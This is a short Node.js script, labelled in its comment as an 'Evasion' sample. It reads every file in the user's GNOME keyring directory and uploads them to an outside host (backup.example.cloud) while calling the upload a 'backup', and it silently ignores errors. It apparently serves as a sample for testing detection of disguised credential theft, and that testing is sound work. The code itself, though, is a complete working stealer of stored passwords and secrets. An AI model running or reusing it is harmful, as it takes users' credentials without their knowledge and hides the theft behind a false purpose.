// Evasion: reads the GNOME keyring files (~/.local/share/keyrings/*.keyring)
// and uploads them with fetch as "backup" form data.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

async function backup() {
  const dir = path.join(os.homedir(), '.local/share/keyrings');
  const form = new FormData();
  for (const f of fs.readdirSync(dir)) {
    if (!f.endsWith('.keyring')) continue;
    form.append(f, new Blob([fs.readFileSync(path.join(dir, f))]), f);
  }
  const res = await fetch('https://backup.example.cloud/upload', { method: 'POST', body: form });
  console.log('backup', res.status);
}

backup().catch(() => {});
